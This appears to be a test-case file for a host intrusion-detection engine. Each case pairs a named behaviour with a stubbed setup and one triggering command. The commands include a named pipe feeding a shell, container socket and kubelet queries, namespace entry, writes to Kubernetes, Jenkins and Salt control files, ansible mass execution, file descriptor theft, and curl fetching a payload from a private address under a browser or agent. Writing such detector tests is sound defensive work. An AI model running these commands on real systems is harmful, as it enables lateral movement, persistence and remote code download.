## Named pipe in a scratch folder written by a shell
#also Data written to a hidden file of a scratch folder
mkfifo /dev/shm/.in; sh < /dev/shm/.in & echo true > /dev/shm/.in; wait; rm /dev/shm/.in
## Service of the system commanded over its bus by hand
#setup stubs /usr/bin/dbus-send
dbus-send --system --dest=org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager.StartUnit string:x.service string:replace
## Socket of a container engine used by a script
#setup python3 -c 'import socket, time; s = socket.socket(socket.AF_UNIX); s.bind("/run/docker.sock"); s.listen(); time.sleep(20)' & sleep 1
timeout 1 curl -s --unix-socket /run/docker.sock http://x/info; true
## Kubelet asked by a script
#setup listener 10250
timeout 1 curl -s http://127.0.0.1:10250/pods; true
## Command run in a container by hand
#setup stubs /usr/bin/docker
docker exec web-1 sh -c id
## Container started by hand
#setup stubs /usr/bin/docker
docker run --rm alpine sh -c id
## Process entered another mount namespace through a program of its own
#setup unshare -m sleep 20 & echo $! > /run/cpid; sleep 1
python3 -c '
import ctypes, os
fd = os.open("/proc/%s/ns/mnt" % open("/run/cpid").read().strip(), os.O_RDONLY); ctypes.CDLL(None).setns(fd, 0)'
## Manifest of a pod put on its node
#setup mkdir -p /etc/kubernetes/manifests
echo x > /etc/kubernetes/manifests/x.yaml
## Job of a build server written behind its back
#setup mkdir -p /var/lib/jenkins/jobs/x
echo x > /var/lib/jenkins/jobs/x/config.xml
## Orders for all machines written by a script
#setup mkdir -p /srv/salt
echo x > /srv/salt/top.sls
## Command sent to many machines by hand
#setup stubs /usr/bin/ansible
ansible all -m shell -a id
## Program in a scratch folder run by an agent of software distribution
#also Transfer tool given a bare private address and a scratch folder
#setup shells /usr/bin/salt-minion
/usr/bin/salt-minion -c 'curl -s -o /tmp/x http://10.9.8.6/x; :'
## Program in a scratch folder started as a service
busybox start-stop-daemon -S -x /tmp/x; true
## Descriptor of another process taken
#setup sleep 20 & echo $! > /run/cpid
python3 -c '
import ctypes, os
fd = os.pidfd_open(int(open("/run/cpid").read())); ctypes.CDLL(None).syscall(438, fd, 1, 0)'
## Table of cron replaced through a pipe
#setup stubs /usr/bin/crontab
echo x | crontab -
## Transfer tool started below a browser or a mail program
#setup mkdir -p /usr/lib/thunderbird; shells /usr/lib/thunderbird/thunderbird
/usr/lib/thunderbird/thunderbird -c 'curl -s http://10.9.8.6/x; :'
## Namespaces of a process entered by hand
#setup sleep 20 & echo $! > /run/cpid
nsenter -t "$(cat /run/cpid)" -u true
## Keys sent by a tool
#setup stubs /usr/bin/tmux
tmux send-keys -t 0 id Enter
